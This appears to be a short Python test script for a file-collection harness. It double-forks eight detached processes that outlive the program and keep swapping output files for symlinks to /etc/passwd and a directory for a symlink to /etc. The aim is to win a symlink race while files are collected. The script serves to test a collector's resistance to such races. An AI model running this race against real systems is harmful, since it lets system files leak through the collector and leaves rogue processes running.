# AIM: processes that outlive the program swap a file for a link to /etc/passwd, and a directory for a link to /, while the files are collected.
import os, time
os.chdir(os.environ["OUTPUT_DIR"])
def swap(i):
    os.setsid(); os.makedirs(f"d{i}", exist_ok=True)
    while True:
        try:
            os.symlink("/etc/passwd", f"l{i}"); os.replace(f"l{i}", f"f{i}.txt")
            open(f"t{i}", "w").write("mine"); os.replace(f"t{i}", f"f{i}.txt")
            os.rename(f"d{i}", f"e{i}"); os.symlink("/etc", f"d{i}"); os.unlink(f"d{i}"); os.rename(f"e{i}", f"d{i}")
        except OSError: pass
for i in range(8):
    if os.fork() == 0:
        if os.fork() == 0: swap(i)
        os._exit(0)
time.sleep(0.5); print("SWAPPING", flush=True); os._exit(0)
